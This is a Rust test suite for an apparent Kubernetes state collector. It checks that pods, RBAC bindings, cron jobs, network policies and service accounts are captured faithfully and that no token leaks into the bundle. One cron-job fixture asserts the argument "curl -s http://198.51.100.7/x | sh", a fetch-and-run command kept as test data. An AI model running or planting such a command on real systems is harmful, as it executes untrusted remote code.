//! Lists: whatever kubectl lists is a row, and the rows say what the objects say.

use serde_json::Value;

use super::harness::{ADMIN, column, files, kubectl_json, text};

/// Namespace and name of everything that kubectl lists of a kind.
fn listed(kind: &str) -> Vec<(String, String)> {
    let list = kubectl_json(&["get", kind, "-A"]);
    let items = list["items"].as_array().unwrap().iter();
    let mut names: Vec<_> =
        items.map(|item| (text(&item["metadata"], "namespace"), text(&item["metadata"], "name"))).collect();
    names.sort();
    names
}

/// Namespace and name of the objects in a table.
fn collected(table: &str, name: &str) -> Vec<(String, String)> {
    let mut names: Vec<_> = ADMIN.rows(table).iter().map(|row| (text(row, "namespace"), text(row, name))).collect();
    names.sort();
    names.dedup();
    names
}

fn bindings(name: &str) -> Vec<Value> {
    ADMIN.rows_of("rbacbindings_CL", &[("binding_name", name)])
}

#[test]
#[ignore = "needs the cluster of tests/cluster/run"]
fn the_run_is_complete_but_for_what_the_cluster_itself_lost() {
    let ended = &ADMIN.ended;
    for gap in ended.report["gaps"].as_array().unwrap() {
        let (object, state) = (text(gap, "object"), text(gap, "state"));
        let lost = ["denied", "failed", "truncated", "interrupted"].contains(&state.as_str());
        assert!(!lost || object.contains("churn"), "{gap}");
    }
    assert!(matches!(ended.status, Some(0 | 3)), "{}", ended.said);
    let verified = super::harness::verify(&ADMIN.dir);
    assert_eq!((verified.status, &verified.report["ok"]), (Some(0), &Value::Bool(true)), "{}", verified.report);
    assert_eq!(verified.report["problems"], serde_json::json!([]));
    for (table, total) in ended.report["tables"].as_object().unwrap() {
        assert_eq!(total["rows"], ADMIN.rows(table).len(), "{table}");
    }
}

#[test]
#[ignore = "needs the cluster of tests/cluster/run"]
fn what_kubectl_lists_is_there() {
    assert_eq!(collected("pods_CL", "pod_name"), listed("pods"));
    assert_eq!(collected("serviceaccounts_CL", "name"), listed("serviceaccounts"));
    assert_eq!(collected("networkpolicies_CL", "name"), listed("networkpolicies"));
    assert_eq!(collected("cronjobs_CL", "cronjob_name"), listed("cronjobs"));
    let mut bindings = listed("rolebindings");
    bindings.extend(listed("clusterrolebindings"));
    bindings.sort();
    assert_eq!(collected("rbacbindings_CL", "binding_name"), bindings);
}

#[test]
#[ignore = "needs the cluster of tests/cluster/run"]
fn containers_tell_their_kind_and_state() {
    let of = |pod, container| ADMIN.rows_of("containers_CL", &[("pod_name", pod), ("container_name", container)]);
    for (container, kind) in [("migrate", "init"), ("proxy", "sidecar"), ("web", "app"), ("dbg", "ephemeral")] {
        assert_eq!(column(&of("web-0", container), "container_type"), [kind]);
    }
    let instances = of("restarted", "restarted");
    assert_eq!(column(&instances, "restart_count"), ["0", "1"]);
    let previous = instances.iter().find(|row| row["previous"] == true).unwrap();
    assert_eq!((&previous["restart_count"], &previous["exit_code"]), (&0.into(), &7.into()));
    assert_eq!(of("finished", "finished")[0]["exit_code"], 3);
    assert_eq!(column(&of("no-image", "app"), "state_reason"), ["ErrImageNeverPull"]);
    assert_eq!(of("pending", "app").len(), 1, "specified, though it never had a status");
}

#[test]
#[ignore = "needs the cluster of tests/cluster/run"]
fn bindings_tell_who_may_what_and_how_far() {
    let health = &bindings("system-health")[0];
    assert_eq!(text(health, "binding_type"), "ClusterRoleBinding");
    assert_eq!(
        (text(health, "subject_kind"), text(health, "subject_name")),
        ("User".into(), "system:anonymous".into())
    );
    assert_eq!((text(health, "role_ref_name"), text(health, "scope")), ("cluster-admin".into(), "cluster".into()));
    let nobody = bindings("without-subjects");
    assert_eq!(nobody.len(), 1);
    assert!(nobody[0]["subject_kind"].is_null());
    let edit = &bindings("web-edit")[0];
    assert_eq!((text(edit, "role_ref_kind"), text(edit, "scope")), ("ClusterRole".into(), "namespace".into()));
    assert_eq!((text(edit, "subject_namespace"), text(edit, "subject_name")), ("shop".into(), "web".into()));
    assert_eq!(column(&bindings("auditors"), "subject_kind"), ["Group", "User"]);
    assert_eq!(column(&bindings("old-ci"), "role_ref_name"), ["gone"]);
}

#[test]
#[ignore = "needs the cluster of tests/cluster/run"]
fn cron_jobs_show_arguments_and_init_containers() {
    let clean = &ADMIN.rows_of("cronjobs_CL", &[("cronjob_name", "node-clean")])[0];
    assert_eq!(text(clean, "args"), "echo 'curl -s http://198.51.100.7/x | sh'");
    assert_eq!((&clean["successful_history_limit"], &clean["failed_history_limit"]), (&0.into(), &0.into()));
    let report = ADMIN.rows_of("cronjobs_CL", &[("cronjob_name", "report")]);
    assert_eq!(column(&report, "container_type"), ["app", "init"]);
    assert_eq!(report[0]["suspend"], true);
}

#[test]
#[ignore = "needs the cluster of tests/cluster/run"]
fn network_policies_have_their_whole_specification() {
    let of = |name| ADMIN.rows_of("networkpolicies_CL", &[("name", name)]).remove(0);
    assert_eq!(text(&of("allow-all"), "egress"), "[{}]");
    assert_eq!(text(&of("allow-all"), "policy_types"), r#"["Egress"]"#);
    let web = of("allow-web");
    assert!(text(&web, "ingress").contains(r#""team":"edge""#), "{web}");
    assert!(text(&web, "pod_selector").contains(r#""app":"web""#), "{web}");
    assert_eq!(text(&of("deny-ingress"), "policy_types"), r#"["Ingress"]"#);
}

#[test]
#[ignore = "needs the cluster of tests/cluster/run"]
fn service_accounts_tell_tokens_and_pull_secrets() {
    let of = |name| ADMIN.rows_of("serviceaccounts_CL", &[("namespace", "shop"), ("name", name)]).remove(0);
    let deployer = of("deployer");
    assert_eq!(text(&deployer, "automount_service_account_token"), "false");
    assert_eq!(deployer["automount_effective"], false);
    assert_eq!(text(&deployer, "image_pull_secrets"), r#"["registry-a","registry-b"]"#);
    assert_eq!(of("web")["automount_effective"], true);
}

#[test]
#[ignore = "needs the cluster of tests/cluster/run"]
fn events_say_why_pods_do_not_start() {
    let about = |pod| column(&ADMIN.rows_of("kubeevents_CL", &[("involved_object_name", pod)]), "reason");
    assert!(about("pending").contains(&"FailedScheduling".to_owned()));
    assert!(about("no-image").contains(&"ErrImageNeverPull".to_owned()));
    assert!(about("web-debug").contains(&"Started".to_owned()));
}

#[test]
#[ignore = "needs the cluster of tests/cluster/run"]
fn no_secret_is_in_the_bundle() {
    let secret = kubectl_json(&["-n", "kube-system", "get", "secret", "metrics-agent"]);
    let encoded = text(&secret["data"], "token");
    let token = base64::Engine::decode(&base64::engine::general_purpose::STANDARD, &encoded).unwrap();
    assert!(token.len() > 100);
    for path in files(&ADMIN.dir) {
        let mut bytes = fs_err::read(&path).unwrap();
        if path.extension().is_some_and(|extension| extension == "zst") {
            bytes = zstd::decode_all(bytes.as_slice()).unwrap();
        }
        for secret in [token.as_slice(), encoded.as_bytes()] {
            assert!(memchr::memmem::find(&bytes, secret).is_none(), "{}", path.display());
        }
    }
}
